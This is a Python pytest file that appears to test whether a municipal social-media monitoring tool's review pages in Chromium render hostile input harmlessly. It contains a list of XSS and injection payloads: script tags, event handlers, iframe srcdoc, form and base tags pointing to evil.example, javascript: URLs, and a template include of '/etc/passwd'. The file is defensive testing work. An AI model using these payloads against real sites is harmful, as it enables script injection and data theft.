"""What was written to hurt, on every page of the review page in Chromium: harmless, in its place, never elsewhere."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any

import msgspec
import pytest
from review_seen import CUT, NARROW, WIDE, moved
from review_served import MOMENT, Shown, serving, windows

from listener.coordination.pattern import Pattern, Reason
from listener.models import Account, Asks, Decision, Finding, Nearest, Signal, State, UnitKind, Verdict
from listener.posts import Mention, Post
from listener.review.tips import FILE
from listener.store import Store, cases
from listener.store.accounts import save_findings
from listener.store.crises import begin_crisis
from listener.store.mention_looks import save_look
from listener.store.mentions import save_mentions
from listener.store.notes import add_note
from listener.store.patterns import save_pattern
from listener.store.people import save_choice
from listener.store.proposals import propose
from listener.store.runs import start_run
from listener.store.searches import save_search
from listener.store.storms import Storm, save_storm
from listener.store.tips import add_tip

pytestmark = pytest.mark.realserver
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
HOSTILE = {
    "script": SCRIPT,
    "drawing": "<svg onload=alert(3)><use href='data:image/svg+xml,<svg/>'/></svg>",
    "frame": "<iframe srcdoc='<script>parent.alert(10)</script>'></iframe><base href=//evil.example/>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/a.css><p style=position:fixed>",
    "form": "</form><form action=https://evil.example/><input name=form autofocus onfocus=alert(11)>",
    "quotes": "\" onmouseover=alert(4) x=' autofocus onfocus=alert(5)",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${alert(6)}",
    "backwards": "Almby \u202enummok\u202c \u2066kommun",
    "long": "Almbykommun" * 1_000,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 800,
    "marks": "A" + "\u0336\u0489\u030a" * 1_500,
    "wide": "\ufdfd" * 200,
    "nul": "Almby\x00\x1b[31m kommun\r\n",
}
TURNS = "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
SETTINGS = f"""
[organisation]
name = "Almby kommun"
domains = ["almby.example"]
[queries."a{{{{7*7}}}}"]
query = "almby"
purpose = {json.dumps(SCRIPT)}
[sources.tips]
files = ["{FILE}"]
[review]
tips = true
"""
# Where what can be pressed leads to; on the page that warns of it, one link leads to a suspect.
LEADS = """all => all.map(each => each.href || each.action)
    .filter(each => !each.startsWith(location.origin) && !/^mailto:(a@almby\\.example)?\\?/.test(each))"""


def hostile_finding(number: int, name: str) -> Finding:
    account = Account(
        platform="x", platform_id=str(number), handle=name, display_name=name, description=f"{name} {SCRIPT}",
        url=f"javascript:alert('{name[:200]}')", source="x", labels=(name[:300],), avatar="https://evil.example/a.svg",
        links=("javascript:alert(8)", "data:text/html,<script>alert(9)</script>", f"https://evil.example/{name}"),
    )  # fmt: skip
    why = Signal(feature="name", asks=Asks.POSES, score=0.9, detail=f"display name {name!r} equals our 'Almby kommun'")
    near = Nearest(platform="x", handle=name[:300], url="javascript:alert(12)", unit=name[:300])
    verdict = Verdict.UNAPPROVED_UNIT if number % 2 else Verdict.IMPOSTOR
    kind = UnitKind.TEAM if number % 2 else None
    return Finding(
        account=account, verdict=verdict, score=0.9, signals=(why,), nearest=near, unit=name, unit_kind=kind
    )  # fmt: skip


def fill_hostile(store: Store) -> None:
    """A store whose every word from outside, and from a careless colleague, was written to hurt."""
    run = start_run(store, "audit", MOMENT, ["x"])
    save_findings(store, run, "x", [hostile_finding(*pair) for pair in enumerate(HOSTILE.values(), 1)], MOMENT)
    posts = [
        Post(platform="x", id=str(number), text=f"almby {name}", url="javascript:alert(7)", author=name,
             published_at=MOMENT)
        for number, name in enumerate(HOSTILE.values())
    ]  # fmt: skip
    for query in ("almby", "a{{7*7}}"):
        spans = ((0, 5),)
        save_mentions(store, run, query, "x", [Mention(post=post, query=query, spans=spans) for post in posts], MOMENT)
    for number, name in enumerate(HOSTILE.values(), 1):
        words = name[:1_500].replace("\x00", " ")
        add_tip(store, f"https://evil.example/{words[:400]}", words, MOMENT)
        add_note(store, number, words[:100], words, MOMENT)
        save_search(store, MOMENT, words, words[:200], None, words[:100], words[:100])
        save_look(store, number, words[:100], "other", words, MOMENT)
        cases.assign(store, number, words[:150].strip() or "x", words[:150], MOMENT)
        save_pattern(store, MOMENT, words[:200], MOMENT - timedelta(days=7), MOMENT, "pile_on", pattern(words))
    told = {"who": SCRIPT, "text": HOSTILE["emoji"][:4_000]}
    cases.save_decision(store, Decision(case_id=3, to=State.DISMISSED, reason="namesake", **told), MOMENT)
    propose(store, Decision(case_id=2, to=State.ACTION, reason="platform_report", **told), MOMENT)
    begin_crisis(store, HOSTILE["form"], ("almby",), 4.0, SCRIPT, MOMENT)
    save_storm(store, Storm(
        id=0, query="a{{7*7}}", started_at=MOMENT - timedelta(hours=9), raised_at=MOMENT - timedelta(hours=9),
        last_at=MOMENT - timedelta(hours=2), ended_at=None, peak=9, expected=0.2, count=30, writers=3, new_writers=3,
        threats=0, score=5.0, reasons=(f"from {SCRIPT}: 55%", HOSTILE["long"]),
    ))  # fmt: skip
    keys = '{"on":true,"chosen":{"next":"\\"","undo":"<","mark":"\\u2028"}}'
    save_choice(store, "anna", "keys", keys)


def pattern(words: str) -> str:
    why = Reason(signal="new_writers", score=0.8, detail=f"3 of 4 writers {words}", posts=(1, 2))
    made = Pattern(kind="pile_on", score=0.8, posts=4, writers=4, compared=60, reasons=(why,))
    return msgspec.json.encode(made).decode()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shown]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "listener.toml").write_text(SETTINGS, encoding="utf-8")
    rows = ["platform,url,unit,status,owner_email,handle,display_name"]
    rows += [
        f'x,https://x.com/h{number},"{name[:300].replace(chr(34), chr(34) * 2)}",approved,a@almby.example,h{number},'
        for number, name in enumerate(HOSTILE.values())
        if "\x00" not in name
    ]
    (folder / "registry.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    with serving(folder) as page:
        with page.store() as store:
            fill_hostile(store)
        yield page


@pytest.fixture
def at(hostile: Shown, chromium: Any) -> Iterator[Callable[..., Any]]:
    with windows(chromium, hostile) as open_one:
        yield open_one


@pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])
def test_what_was_written_to_hurt_is_shown_harmless(
    at: Callable[..., Any], hostile: Shown, size: dict[str, int]
) -> None:
    wrong: dict[str, list[str]] = {}
    numbers = range(1, len(HOSTILE) + 1)
    for role, more in (
        ("decider", [f"/{kind}/{number}" for kind in ("case", "mention") for number in numbers]),
        ("operator", ["/trail/readings"]),
    ):
        page = at(role, size=size)
        found = filter(None, hostile.everywhere(page).values()) if role == "decider" else ()
        for path in dict.fromkeys([*found, *more]):
            page.goto(hostile.address + path)
            told = [*page.evaluate(CUT), *moved(page), *page.evaluate("window.refused")]
            told += [f"leads to {each}" for each in page.eval_on_selector_all("a[href], form", LEADS)]
            if page.evaluate("document.documentElement.scrollHeight") > 80 * size["height"]:
                told.append("a wall")
            shown = page.evaluate("document.body.innerText")
            told += [f"turns the line: {ord(each):x}" for each in TURNS if each in shown]
            wrong[path] = told
        wrong[role] = page.troubles
        wrong[f"{role} asked"] = [url for url in page.asked if not url.startswith(hostile.address)]
    assert [f"{path}: {each}" for path, told in wrong.items() for each in told] == []
    assert len(wrong) > len(HOSTILE) * 2 + 20
